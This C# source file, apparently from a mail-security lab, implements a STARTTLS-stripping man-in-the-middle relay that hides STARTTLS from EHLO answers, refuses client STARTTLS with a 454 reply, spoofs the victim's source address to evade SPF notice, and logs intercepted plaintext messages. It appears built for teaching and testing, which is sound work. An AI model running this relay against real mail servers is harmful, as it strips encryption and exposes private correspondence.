using System.Buffers;
using System.Collections.Concurrent;
using System.IO.Pipelines;
using System.Net;
using System.Net.Sockets;
using System.Text;
using MailLab.Protocols.Text;
using MailLab.Server.Sites;
using MailLab.Server.Trace;

namespace MailLab.Server.Attacks;

/// <summary>
/// The <c>strip-starttls</c> man in the middle: a TCP relay on its own address to which the victim site's
/// route to the target site's MTA leads (<see cref="LabRoutes"/>). For each connection it connects on to
/// the real MTA, reads the SMTP dialogue line by line in both directions, removes STARTTLS from the EHLO
/// answer, answers a STARTTLS the client sends anyway with 454 itself, passes everything else on byte for
/// byte, and records what it sees (trace events with role ATTACKER and Origin <c>attack</c>, and
/// <see cref="AttackTranscript"/>). It connects on from the victim's address, as an on-path router
/// forwards packets without changing their source: the target's SPF check still sees the victim, so the
/// attack leaves no mark there.
/// </summary>
internal sealed class StarttlsStripper(IPAddress source, IPEndPoint target, AttackTranscript log, TraceContext trace)
{
    /// <summary>
    /// Longest line either side may send (octets with CRLF): bounded memory per session, far above the
    /// 512-octet reply and 1000-octet text lines of RFC 5321 §4.5.3.1.4-6. A longer line ends the session.
    /// </summary>
    public const int MaxLine = 64 * 1024;

    /// <summary>Most lines in one reply; more ends the session.</summary>
    public const int MaxReplyLines = 1000;

    /// <summary>The 454 the attacker answers STARTTLS with (RFC 3207 §4: TLS not available, temporarily).</summary>
    public const string Refusal = "454 4.7.0 TLS not available due to temporary reason";

    /// <summary>How long either side may stay silent.</summary>
    public TimeSpan IdleTimeout { get; init; } = TimeSpan.FromMinutes(5);

    /// <summary>Longest a whole session may last.</summary>
    public TimeSpan SessionTimeout { get; init; } = TimeSpan.FromMinutes(30);

    /// <summary>How long the connect to the target may take.</summary>
    public TimeSpan ConnectTimeout { get; init; } = TimeSpan.FromSeconds(15);

    /// <summary>The address the attacker connects on from: the victim site's.</summary>
    public IPAddress Source => source;

    /// <summary>Where the attacker writes what it sees.</summary>
    public AttackTranscript Log => log;

    /// <summary>The target MTA's end point the attacker forwards to.</summary>
    public IPEndPoint Target => target;

    /// <summary>Runs one intercepted connection until either side closes, stalls or misbehaves.</summary>
    public async Task RunAsync(Stream client, IPEndPoint remote, string sessionId, CancellationToken shutdown)
    {
        var s = new Session(this, client, remote, trace with { Session = sessionId }, sessionId);
        await s.RunAsync(shutdown);
    }

    private sealed class Session(StarttlsStripper owner, Stream client, IPEndPoint remote, TraceContext t, string id)
    {
        private readonly ConcurrentQueue<string> pending = new(["CONNECT"]); // replies owed, oldest first; the greeting first
        private readonly SemaphoreSlim clientWrite = new(1, 1);
        private readonly SemaphoreSlim replied = new(0);
        private readonly StringBuilder notes = new();
        private readonly List<string> reply = [];
        private readonly ArrayBufferWriter<byte> replyRaw = new();
        private Stream server = Stream.Null;
        private volatile bool inData;
        private bool inHeaders;
        private long octets;
        private string? subject;
        private string? messageId;
        private readonly string clientText = remote.ToString();

        public async Task RunAsync(CancellationToken shutdown)
        {
            using var cts = CancellationTokenSource.CreateLinkedTokenSource(shutdown);
            cts.CancelAfter(owner.SessionTimeout);
            var started = DateTime.UtcNow;
            Note("!", $"connection from {remote} for {owner.Target}; connecting on from {owner.Source}");
            using var socket = new Socket(owner.Target.AddressFamily, SocketType.Stream, ProtocolType.Tcp);
            IDisposable? registration = null;
            string reason;
            try
            {
                // Bound without SO_REUSEADDR and registered like the relay's own sockets (Sites/LabRelayConnections),
                // so the target MTA marks the session as the lab's relay, which it is: the attacker only forwards it.
                socket.SetSocketOption(SocketOptionLevel.Socket, SocketOptionName.ReuseAddress, false);
                socket.Bind(new IPEndPoint(owner.Source, 0));
                registration = LabRelayConnections.Register((IPEndPoint)socket.LocalEndPoint!);
                using (var connect = CancellationTokenSource.CreateLinkedTokenSource(cts.Token))
                {
                    connect.CancelAfter(owner.ConnectTimeout);
                    await socket.ConnectAsync(owner.Target, connect.Token);
                }
                Saw("connect", $"intercepted {remote} -> {owner.Target}, forwarding from {socket.LocalEndPoint}", null);
                await using var up = new NetworkStream(socket, ownsSocket: false);
                server = up;
                var fromClient = PumpAsync(client, "client", OnClientLine, cts.Token);
                var fromServer = PumpAsync(up, "server", OnServerLine, cts.Token);
                var first = await Task.WhenAny(fromClient, fromServer);
                reason = cts.IsCancellationRequested && !shutdown.IsCancellationRequested
                    ? $"the session reached its {owner.SessionTimeout.TotalMinutes:0.#}-minute limit" : await first;
                await cts.CancelAsync();
                try
                {
                    socket.Shutdown(SocketShutdown.Both);
                }
                catch (SocketException)
                {
                }
                await Task.WhenAll(fromClient, fromServer).ContinueWith(_ => { }, TaskScheduler.Default);
            }
            catch (Exception ex) when (ex is SocketException or IOException or OperationCanceledException)
            {
                reason = ex is OperationCanceledException
                    ? shutdown.IsCancellationRequested ? "lab stopping" : "timed out"
                    : ex.Message;
            }
            finally
            {
                registration?.Dispose();
            }
            Note("!", $"session over: {reason}");
            Saw("close", $"session over after {(int)(DateTime.UtcNow - started).TotalMilliseconds} ms: {reason}", null, reason: reason);
            Flush();
        }

        // Reads lines from one side until it closes, stalls or sends a line too long; returns why it stopped.
        private async Task<string> PumpAsync(Stream from, string who, Func<string, ReadOnlySequence<byte>, CancellationToken, Task> onLine, CancellationToken ct)
        {
            var reader = PipeReader.Create(from, new StreamPipeReaderOptions(leaveOpen: true));
            var framer = new CrlfLineFramer(MaxLine);
            using var idle = CancellationTokenSource.CreateLinkedTokenSource(ct);
            try
            {
                while (true)
                {
                    idle.CancelAfter(owner.IdleTimeout);
                    ReadResult r;
                    try
                    {
                        r = await reader.ReadAsync(idle.Token);
                    }
                    catch (OperationCanceledException) when (!ct.IsCancellationRequested)
                    {
                        return $"the {who} was silent for {owner.IdleTimeout.TotalSeconds:0} s";
                    }
                    var buffer = r.Buffer;
                    try
                    {
                        while (true)
                        {
                            var before = buffer;
                            var status = framer.Read(ref buffer, out var line);
                            if (status == FrameStatus.NeedMoreData) break;
                            if (status == FrameStatus.LineTooLong) return $"the {who} sent a line over {MaxLine} octets";
                            if (await Handle(onLine, line, before.Slice(0, buffer.Start), ct) is { } stop) return stop;
                        }
                    }
                    finally
                    {
                        reader.AdvanceTo(buffer.Start, buffer.End);
                    }
                    if (r.IsCompleted) return $"the {who} closed the connection";
                }
            }
            catch (Exception ex) when (ex is IOException or SocketException or ObjectDisposedException)
            {
                return $"the {who}'s connection failed: {ex.Message}";
            }
            catch (OperationCanceledException)
            {
                return "the other side ended the session";
            }
            finally
            {
                await reader.CompleteAsync();
            }
        }

        private static async Task<string?> Handle(Func<string, ReadOnlySequence<byte>, CancellationToken, Task> onLine, string line,
            ReadOnlySequence<byte> raw, CancellationToken ct)
        {
            try
            {
                await onLine(line, raw, ct);
                return null;
            }
            catch (InvalidDataException ex)
            {
                return ex.Message;
            }
        }

        private async Task OnClientLine(string line, ReadOnlySequence<byte> raw, CancellationToken ct)
        {
            if (inData)
            {
                // The message itself, in plaintext: what the attack is for. Passed on unchanged.
                Note("C:", line);
                octets += raw.Length;
                if (inHeaders && line.Length == 0) inHeaders = false;
                else if (inHeaders && subject is null && line.StartsWith("Subject:", StringComparison.OrdinalIgnoreCase)) subject = line[8..].Trim();
                else if (inHeaders && messageId is null && line.StartsWith("Message-ID:", StringComparison.OrdinalIgnoreCase)) messageId = line[11..].Trim();
                if (line == ".")
                {
                    inData = false;
                    pending.Enqueue(".");
                    Saw("message", $"read a {octets}-octet message in plaintext: Subject: {subject}", null, octets, subject, messageId: messageId);
                    Flush();
                }
                await Write(server, raw, ct);
                return;
            }
            var shown = t.ClientLine(SecretProtocol.Smtp, line);
            Note("C:", shown);
            Saw("client", $"C: {shown}", shown);
            var verb = EhloStripper.Verb(line);
            if (verb == "STARTTLS")
            {
                // The client wants TLS although the EHLO answer had none: refuse it here, never let the
                // server see it (RFC 3207 §4: 454 means TLS is not available for now; an opportunistic client goes on in plaintext).
                while (!pending.IsEmpty) await replied.WaitAsync(ct); // earlier pipelined commands are answered first
                Note("!", $"answered STARTTLS itself with {Refusal}; the server never saw it");
                Note("S:", Refusal);
                t.Emit(TraceKind.StarttlsStripped, $"answered the client's STARTTLS with 454 itself (the server {owner.Target} never saw it)",
                    ("Action", "refused"), ("Line", line), ("Client", clientText), ("Server", owner.Target.ToString()));
                Flush();
                await WriteClient(Encoding.ASCII.GetBytes(Refusal + "\r\n"), ct);
                return;
            }
            if (verb == "DATA")
            {
                octets = 0;
                subject = null;
                messageId = null;
                inHeaders = true;
            }
            pending.Enqueue(verb);
            await Write(server, raw, ct);
        }

        private async Task OnServerLine(string line, ReadOnlySequence<byte> raw, CancellationToken ct)
        {
            if (reply.Count >= MaxReplyLines) throw new InvalidDataException($"the server sent a reply of over {MaxReplyLines} lines");
            reply.Add(line);
            foreach (var segment in raw) replyRaw.Write(segment.Span);
            if (!EhloStripper.IsLast(line)) return;

            var lines = reply.ToList();
            reply.Clear();
            var verb = pending.TryDequeue(out var v) ? v : "?";
            foreach (var l in lines) Note("S:", l);
            Saw("server", $"S: {string.Join(" / ", lines)}", lines[0]);
            byte[] forward = replyRaw.WrittenSpan.ToArray();
            replyRaw.Clear();
            if (verb is "EHLO")
            {
                var kept = EhloStripper.Strip(lines, out var removed);
                foreach (var r in removed)
                {
                    Note("!", $"removed '{r}' from the EHLO answer: the client sees no STARTTLS");
                    t.Emit(TraceKind.StarttlsStripped, $"removed '{r}' from {owner.Target}'s EHLO answer to {clientText}",
                        ("Action", "ehlo"), ("Line", r), ("Client", clientText), ("Server", owner.Target.ToString()));
                }
                if (removed.Count > 0)
                {
                    foreach (var l in kept) Note(">", l);
                    forward = Encoding.UTF8.GetBytes(string.Concat(kept.Select(l => l + "\r\n")));
                }
            }
            // The client sends the message only after 354 (RFC 5321 §4.1.1.4), so this is set before its first line.
            if (verb is "DATA" && lines[^1].StartsWith("354", StringComparison.Ordinal)) inData = true;
            Flush();
            await WriteClient(forward, ct);
            replied.Release();
        }

        private static async Task Write(Stream to, ReadOnlySequence<byte> raw, CancellationToken ct)
        {
            foreach (var segment in raw) await to.WriteAsync(segment, ct);
        }

        private async Task WriteClient(byte[] bytes, CancellationToken ct)
        {
            await clientWrite.WaitAsync(ct);
            try
            {
                await client.WriteAsync(bytes, ct);
            }
            finally
            {
                clientWrite.Release();
            }
        }

        private void Saw(string direction, string text, string? line, long? size = null, string? subj = null, string? reason = null, string? messageId = null) =>
            t.Emit(TraceKind.AttackerSaw, text, ("Direction", direction), ("Line", line), ("Client", clientText),
                ("Server", owner.Target.ToString()), ("Octets", size), ("Subject", subj), ("Reason", reason), ("MessageId", messageId));

        private void Note(string mark, string line)
        {
            lock (notes)
            {
                notes.Append($"{DateTime.UtcNow:yyyy-MM-ddTHH:mm:ss.fffZ} {id} {mark} {line}\n");
                if (notes.Length < 64 * 1024) return;
            }
            Flush();
        }

        private void Flush()
        {
            string block;
            lock (notes)
            {
                block = notes.ToString();
                notes.Clear();
            }
            owner.Log.Write(block);
        }
    }
}
